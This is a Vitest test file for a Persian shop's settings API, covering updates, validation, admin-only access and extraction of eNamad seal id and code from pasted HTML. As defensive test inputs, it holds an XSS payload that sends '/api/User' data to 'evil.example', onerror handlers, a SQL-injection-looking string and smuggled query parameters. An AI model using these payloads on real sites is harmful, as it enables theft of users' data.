import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, inArray, sql as drizzleSql } from 'drizzle-orm';
import { ENAMAD_HTML_MESSAGE, FREE_SHIPPING_THRESHOLD } from '@sorkhab/shared';
import { MIGRATIONS_DIR } from '../../paths.js';
import { settings } from '../../db/schema/index.js';
import { buildTestApp, type TestApp } from '../../../test/helpers.js';
import { asAdmin, customerToken, dataOf, errorOf, expectAdminOnly, expectFieldErrors } from '../../../test/api.js';
import { DEFAULT_SETTINGS } from './content.service.js';

let t: TestApp;
let shopper: string;
beforeAll(async () => {
  t = await buildTestApp();
  shopper = await customerToken(t);
});
afterAll(async () => { await t.close(); });

const read = async () => dataOf(await t.app.inject({ method: 'GET', url: '/api/Settings' }));

describe('GET /api/Settings', () => {
  it('answers the defaults on a fresh shop, without a login', async () => {
    const settings = await read();
    expect(settings).toEqual(DEFAULT_SETTINGS);
    expect(settings).toMatchObject({ storeName: 'سرخاب', freeShippingThreshold: FREE_SHIPPING_THRESHOLD });
    expect(settings.faq.length).toBeGreaterThan(0);
  });
});

describe('PUT /api/Settings', () => {
  it('changes the given fields only, and the very next read shows them', async () => {
    await read();
    const faq = [{ question: 'ارسال چند روز طول می‌کشد؟', answer: 'دو تا چهار روز کاری.' }];
    const updated = dataOf(await asAdmin(t, 'PUT', '/api/Settings', { storeName: 'سرخاب تست', shippingFee: 55000, faq }));
    expect(updated).toEqual({ ...DEFAULT_SETTINGS, storeName: 'سرخاب تست', shippingFee: 55000, faq });
    expect(await read()).toEqual(updated);
  });

  it('keeps earlier changes when a later one touches other fields', async () => {
    await asAdmin(t, 'PUT', '/api/Settings', { phone: '021-88887777' });
    await asAdmin(t, 'PUT', '/api/Settings', { address: 'شیراز، خیابان زند' });
    expect(await read()).toMatchObject({ phone: '021-88887777', address: 'شیراز، خیابان زند' });
  });

  it('matches field names case-insensitively', async () => {
    dataOf(await asAdmin(t, 'PUT', '/api/Settings', { ShippingFee: 61000, STORENAME: 'سرخاب ۲' }));
    expect(await read()).toMatchObject({ shippingFee: 61000, storeName: 'سرخاب ۲' });
  });

  it('does not store unknown keys', async () => {
    dataOf(await asAdmin(t, 'PUT', '/api/Settings', { isAdmin: true, storeName: 'سرخاب' }));
    expect(Object.keys(await read()).sort()).toEqual(Object.keys(DEFAULT_SETTINGS).sort());
  });

  it('stores Persian, emoji and SQL-looking text as it is', async () => {
    const about = "فروشگاه ما 💄 '); DELETE FROM settings; --";
    dataOf(await asAdmin(t, 'PUT', '/api/Settings', { about }));
    expect((await read()).about).toBe(about);
  });

  it('keeps text that reads as JSON (digits, true, null) as text', async () => {
    const patch = { storeName: '12345', tagline: 'true', about: 'null', workingHours: '1e5' };
    expect(dataOf(await asAdmin(t, 'PUT', '/api/Settings', patch))).toMatchObject(patch);
    expect(await read()).toMatchObject(patch);
    await asAdmin(t, 'PUT', '/api/Settings', { storeName: 'سرخاب', tagline: DEFAULT_SETTINGS.tagline, about: DEFAULT_SETTINGS.about, workingHours: DEFAULT_SETTINGS.workingHours });
  });

  it('answers 400 with Persian messages for bad values, changing nothing', async () => {
    const before = await read();
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { shippingFee: -1 }), { shippingFee: 'هزینه ارسال نمی‌تواند منفی باشد' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { shippingFee: 10.5 }), { shippingFee: 'هزینه ارسال باید عدد صحیح باشد' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { shippingFee: 'رایگان' }), { shippingFee: 'هزینه ارسال باید عدد باشد' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { storeName: '' }), { storeName: 'نام فروشگاه الزامی است' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { storeName: 'ن'.repeat(101) }), { storeName: 'نام فروشگاه باید حداکثر ۱۰۰ کاراکتر باشد' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { faq: [{ question: '', answer: 'x' }] }), { 'faq.0.question': 'پرسش الزامی است' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { faq: 'نه' }), { faq: 'پرسش‌های متداول باید فهرست باشند' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { storeName: 123 }), { storeName: 'نام فروشگاه باید متن باشد' });
    expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { shippingFee: 1e9 }), { shippingFee: 'هزینه ارسال باید حداکثر ۱۰۰٬۰۰۰٬۰۰۰ تومان باشد' });
    expect(await read()).toEqual(before);
  });

  it('answers 400 for a body that is not JSON', async () => {
    const res = await t.app.inject({ method: 'PUT', url: '/api/Settings', payload: '{"storeName":', headers: { 'content-type': 'application/json', authorization: `Bearer ${await t.adminToken()}` } });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({ code: 'BAD_JSON', message: 'بدنه درخواست JSON معتبر نیست' });
  });

  it('answers 401 to an anonymous request whatever its body, before parsing it', async () => {
    const res = await t.app.inject({ method: 'PUT', url: '/api/Settings', payload: '{"storeName":', headers: { 'content-type': 'application/json' } });
    expect(res.statusCode).toBe(401);
    expect(errorOf(res).code).toBe('UNAUTHORIZED');
  });

  it('answers 413 for a JSON body over 1 MB', async () => {
    const res = await asAdmin(t, 'PUT', '/api/Settings', { about: 'ا'.repeat(600_000) });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res)).toEqual({ code: 'PAYLOAD_TOO_LARGE', message: 'حجم درخواست بیش از حد مجاز است' });
  });

  it('is for admins only', async () => {
    await expectAdminOnly(t, { method: 'PUT', url: '/api/Settings', payload: { storeName: 'هک' } }, shopper);
    expect((await read()).storeName).not.toBe('هک');
  });
});

describe('eNamad seal (issue 9)', () => {
  const officialHtml = `<a referrerpolicy='origin' target='_blank' href='https://trustseal.enamad.ir/?id=654321&amp;Code=AbCdEf123XyZ'><img referrerpolicy='origin' src='https://trustseal.enamad.ir/logo.aspx?id=654321&amp;Code=AbCdEf123XyZ' alt='' style='cursor:pointer' code='AbCdEf123XyZ'></a>`;
  const storedValues = async () => (await t.db.select().from(settings)).map((r) => JSON.stringify(r.value)).join('\n');
  const clear = () => asAdmin(t, 'PUT', '/api/Settings', { enamadId: '', enamadCode: '' });

  it('stores the seal as its id and code and answers them', async () => {
    const updated = dataOf(await asAdmin(t, 'PUT', '/api/Settings', { enamadId: '123456', enamadCode: 'Xy12Zw34' }));
    expect(updated).toMatchObject({ enamadId: '123456', enamadCode: 'Xy12Zw34' });
    expect(await read()).toMatchObject({ enamadId: '123456', enamadCode: 'Xy12Zw34' });
    // Persian digits are read as digits; both empty removes the seal.
    expect(dataOf(await asAdmin(t, 'PUT', '/api/Settings', { enamadId: '۷۸۹', enamadCode: 'k9' }))).toMatchObject({ enamadId: '789', enamadCode: 'k9' });
    expect(dataOf(await clear())).toMatchObject({ enamadId: '', enamadCode: '' });
  });

  it('takes id and code from pasted eNamad HTML with a script in it, and stores or answers no HTML', async () => {
    const html = `${officialHtml}<script>fetch('/api/User').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</script><img src=x onerror=alert(1)>`;
    const res = await asAdmin(t, 'PUT', '/api/Settings', { enamadHtml: html });
    const updated = dataOf(res);
    expect(updated).toMatchObject({ enamadId: '654321', enamadCode: 'AbCdEf123XyZ' });
    for (const body of [res.body, JSON.stringify(await read()), await storedValues()]) {
      expect(body).not.toMatch(/<|script|onerror|enamadHtml/i);
    }
    expect(Object.keys(updated).sort()).toEqual(Object.keys(DEFAULT_SETTINGS).sort());
  });

  it('answers 400 for HTML without a seal link, storing nothing', async () => {
    await asAdmin(t, 'PUT', '/api/Settings', { enamadId: '111', enamadCode: 'abc' });
    for (const enamadHtml of ['<script>alert(1)</script>', '<a href="https://evil.example/?id=1&Code=2">x</a>', '<img src="https://trustseal.enamad.ir/logo.aspx?id=12a&Code=x">']) {
      expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', { enamadHtml, storeName: 'نباید ذخیره شود' }), { enamadHtml: ENAMAD_HTML_MESSAGE });
    }
    expect(await read()).toMatchObject({ enamadId: '111', enamadCode: 'abc', storeName: expect.not.stringMatching('نباید') });
    expect(await storedValues()).not.toMatch(/script|evil/);
    // An empty snippet removes the seal.
    expect(dataOf(await asAdmin(t, 'PUT', '/api/Settings', { enamadHtml: '' }))).toMatchObject({ enamadId: '', enamadCode: '' });
  });

  it('answers 400 with Persian messages for a bad id or code, changing nothing', async () => {
    await asAdmin(t, 'PUT', '/api/Settings', { enamadId: '222', enamadCode: 'def' });
    const before = await read();
    const cases: [Record<string, unknown>, Record<string, string>][] = [
      [{ enamadId: '12ab', enamadCode: 'x' }, { enamadId: 'شناسه نماد اعتماد فقط از رقم تشکیل می‌شود' }],
      [{ enamadId: '1'.repeat(13), enamadCode: 'x' }, { enamadId: 'شناسه نماد اعتماد باید حداکثر ۱۲ رقم باشد' }],
      [{ enamadId: '1" onerror="alert(1)', enamadCode: 'x' }, { enamadId: 'شناسه نماد اعتماد فقط از رقم تشکیل می‌شود' }],
      [{ enamadId: '1', enamadCode: '<script>' }, { enamadCode: 'کد نماد اعتماد فقط از حروف و رقم‌های انگلیسی تشکیل می‌شود' }],
      [{ enamadId: '1', enamadCode: 'a&id=2' }, { enamadCode: 'کد نماد اعتماد فقط از حروف و رقم‌های انگلیسی تشکیل می‌شود' }],
      [{ enamadId: '1', enamadCode: 'a'.repeat(65) }, { enamadCode: 'کد نماد اعتماد باید حداکثر ۶۴ نویسه باشد' }],
      [{ enamadId: '1', enamadCode: ['x'] }, { enamadCode: 'کد نماد اعتماد باید متن باشد' }],
      [{ enamadId: '', enamadCode: 'abc' }, { enamadId: 'شناسه نماد اعتماد را هم وارد کنید' }],
      [{ enamadCode: '' }, { enamadCode: 'کد نماد اعتماد را هم وارد کنید' }],
      [{ enamadHtml: 5 }, { enamadHtml: 'کد نماد اعتماد باید متن باشد' }],
    ];
    for (const [body, fields] of cases) expectFieldErrors(await asAdmin(t, 'PUT', '/api/Settings', body), fields);
    expect(await read()).toEqual(before);
  });

  it('the migration turns a stored seal HTML into id and code and drops HTML without one', async () => {
    const sql = fs.readFileSync(path.join(MIGRATIONS_DIR, '0003_enamad-seal.sql'), 'utf8').split('--> statement-breakpoint');
    const migrate = async (html: string) => {
      await t.db.delete(settings).where(inArray(settings.key, ['enamadHtml', 'enamadId', 'enamadCode']));
      await t.db.insert(settings).values({ key: 'enamadHtml', value: html });
      for (const statement of sql) await t.db.execute(drizzleSql.raw(statement));
      await t.app.services.cache.invalidate();
      return read();
    };
    expect(await migrate(`<script>alert(1)</script>${officialHtml}`)).toMatchObject({ enamadId: '654321', enamadCode: 'AbCdEf123XyZ' });
    expect(await migrate('<a href="https://trustseal.enamad.ir/?id=42&Code=q1"><img src="x"></a>')).toMatchObject({ enamadId: '42', enamadCode: 'q1' });
    expect(await migrate('<img src=x onerror=alert(1)>')).toMatchObject({ enamadId: '', enamadCode: '' });
    expect(await migrate(`<a href="https://trustseal.enamad.ir/?id=1&Code=${'a'.repeat(65)}">`)).toMatchObject({ enamadId: '', enamadCode: '' });
    expect(await storedValues()).not.toMatch(/<|script/);
    const keys = (await t.db.select({ key: settings.key }).from(settings)).map((r) => r.key);
    expect(keys).not.toContain('enamadHtml');
  });

  it('never answers a legacy or stray key left in the table', async () => {
    await t.db.insert(settings).values({ key: 'enamadHtml', value: '<script>alert(1)</script>' })
      .onConflictDoUpdate({ target: settings.key, set: { value: '<script>alert(1)</script>' } });
    await t.app.services.cache.invalidate();
    const res = await t.app.inject({ method: 'GET', url: '/api/Settings' });
    expect(res.body).not.toMatch(/script|enamadHtml/);
    expect(dataOf(await asAdmin(t, 'PUT', '/api/Settings', { tagline: 'تازه' })).enamadHtml).toBeUndefined();
    await t.db.delete(settings).where(eq(settings.key, 'enamadHtml'));
  });
});
